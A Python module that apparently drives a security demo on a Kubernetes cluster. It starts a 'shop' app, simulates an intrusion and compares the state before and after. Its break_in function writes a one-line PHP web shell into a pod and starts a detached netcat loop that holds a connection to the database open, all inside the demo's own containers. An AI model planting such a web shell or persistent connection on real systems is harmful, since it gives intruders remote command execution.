"""The shop that the demo breaks into: started, spied on, and compared before and after.

The suspect keeps a connection to the database open and counts on it; a file was dropped after the start.
"""

import json
from typing import Any

from cluster import build
from cluster.providers import Provider
from demo import terminal

NAMESPACE = "shop"
COUNTER = "/tmp/heartbeats"  # noqa: S108 - a path inside the demo's containers


class Kubectl:
    """kubectl on the demo's cluster."""

    def __init__(self, provider: Provider) -> None:
        self.kubeconfig = str(provider.kubeconfig())
        self._program = [str(build.program("kubectl")), f"--kubeconfig={self.kubeconfig}"]

    def __call__(self, *arguments: str, text: str = "", show: bool = False, check: bool = True) -> str:
        said = f"kubectl {' '.join(arguments)}" if show else ""
        found = terminal.run([*self._program, *arguments], text, said=said, check=check)
        if show:
            terminal.show(found)
        return found

    def json(self, *arguments: str) -> Any:
        return json.loads(self("get", *arguments, "-o", "json"))


def start(kubectl: Kubectl, manifest: str) -> None:
    """Starts the shop and waits until it serves."""
    kubectl("apply", "--server-side", "-f", "-", text=manifest)
    for name in ("database", "web"):
        kubectl("-n", NAMESPACE, "rollout", "status", f"deployment/{name}", "--timeout=90s")


def pods(kubectl: Kubectl) -> list[str]:
    """Names of the web pods that the Deployment owns and that are not on their way out."""
    found = kubectl.json("-n", NAMESPACE, "pods", "-l", "app=web")["items"]
    return sorted(pod["metadata"]["name"] for pod in found if "deletionTimestamp" not in pod["metadata"])


def break_in(kubectl: Kubectl, pod: str) -> None:
    """What the intruder did: a dropped file, and a connection that is kept open and asked over every half second."""
    kubectl("-n", NAMESPACE, "exec", pod, "--", "sh", "-c", "echo '<?php system($_GET[0]);' > /tmp/shell.php")
    ask = r"printf 'GET /healthz HTTP/1.1\r\nHost: database\r\n\r\n'"
    script = f"while {ask}; do sleep 0.5; done | nc {database(kubectl)} 8080 >> {COUNTER}"
    # This session does not end before the new one has begun and has had its first answer.
    started = f'setsid sh -c "$0" >/dev/null 2>&1 & for _ in $(seq 100); do [ -s {COUNTER} ] && break; sleep 0.1; done'
    kubectl("-n", NAMESPACE, "exec", pod, "--", "sh", "-c", started, script)


def beats(kubectl: Kubectl, pod: str) -> int:
    """How many answers have come over the open connection."""
    said = kubectl("-n", NAMESPACE, "exec", pod, "--", "sh", "-c", f"grep -c 200 {COUNTER}", check=False)
    return int(said.strip()) if said.strip().isdigit() else 0


def reaches(kubectl: Kubectl, source: str, address: str, port: int = 8080) -> bool:
    """Whether a pod can open a new connection."""
    words = f"echo | nc -w 2 {address} {port} >/dev/null 2>&1 && echo reached"
    return "reached" in kubectl("-n", NAMESPACE, "exec", source, "--", "sh", "-c", words, check=False)


def address(kubectl: Kubectl, pod: str) -> str:
    return str(kubectl.json("-n", NAMESPACE, "pod", pod)["status"]["podIP"])


def database(kubectl: Kubectl) -> str:
    return str(kubectl.json("-n", NAMESPACE, "service", "database")["spec"]["clusterIP"])
